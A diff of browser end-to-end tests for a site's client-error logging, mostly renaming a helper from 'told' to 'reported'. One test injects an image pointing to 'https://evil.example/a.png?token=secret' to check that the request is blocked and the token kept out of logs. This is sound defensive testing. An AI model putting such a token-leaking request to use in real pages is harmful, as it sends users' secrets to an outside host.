@@ -12,7 +12,7 @@ afterAll(() => site.stop());
 
 /** Lines of the server's log that tell of failures in browsers, but for those of before. */
 let earlier: number;
-const told = () =>
+const reported = () =>
   site
     .output()
     .split('\n')
@@ -23,7 +23,7 @@ const told = () =>
     .slice(earlier);
 beforeEach(() => {
   earlier = 0;
-  earlier = told().length;
+  earlier = reported().length;
 });
 
 test('NV-05 what fails in a browser is in the log of the server, once, without what was searched for', async () => {
@@ -36,8 +36,8 @@ test('NV-05 what fails in a browser is in the log of the server, once, without w
   for (const term of ['world', 'europe']) {
     await Promise.all([page.waitForResponse(/suggestions/), field.fill(term)]);
   }
-  await expect.poll(() => told().length).toBe(1);
-  expect(told()[0]).toMatchObject({
+  await expect.poll(() => reported().length).toBe(1);
+  expect(reported()[0]).toMatchObject({
     part: 'search',
     route: '/indexes/screener',
     message: serverText,
@@ -48,17 +48,17 @@ test('NV-05 what fails in a browser is in the log of the server, once, without w
     image.src = 'https://evil.example/a.png?token=secret';
     document.body.append(image);
   });
-  await expect.poll(() => told().length).toBe(2);
-  expect(told()[1]).toMatchObject({ blocked: 'https://evil.example' });
-  expect(JSON.stringify(told())).not.toContain('token');
+  await expect.poll(() => reported().length).toBe(2);
+  expect(reported()[1]).toMatchObject({ blocked: 'https://evil.example' });
+  expect(JSON.stringify(reported())).not.toContain('token');
 });
 
 test('NV-05 a message that is longer than the log takes is cut short by the browser, and told', async () => {
   const page = await visit('/', { baseURL: site.url, allowedErrors: /Nothing came/ });
   const message = `Nothing came of /a?term=secret ${'x'.repeat(400)}`;
   await page.evaluate((text) => void Promise.reject(new Error(text)), message);
-  await expect.poll(() => told().length).toBe(1);
-  expect(told()[0]?.['message']).toMatch(/^Nothing came of \/a x{100}/);
+  await expect.poll(() => reported().length).toBe(1);
+  expect(reported()[0]?.['message']).toMatch(/^Nothing came of \/a x{100}/);
 });
 
 test('NV-05 a page that is left while it follows a level is no failure', async () => {
@@ -74,6 +74,6 @@ test('NV-05 a page that is left while it follows a level is no failure', async (
   await untilScriptsRun(page);
   await failWith(page, /\/api\/securities\/suggestions/, 500);
   await page.locator('header input[name=filterPattern]').first().fill('world');
-  await expect.poll(() => told().at(0)?.['part']).toBeDefined();
-  expect(told()).toMatchObject([{ part: 'search' }]);
+  await expect.poll(() => reported().at(0)?.['part']).toBeDefined();
+  expect(reported()).toMatchObject([{ part: 'search' }]);
 });
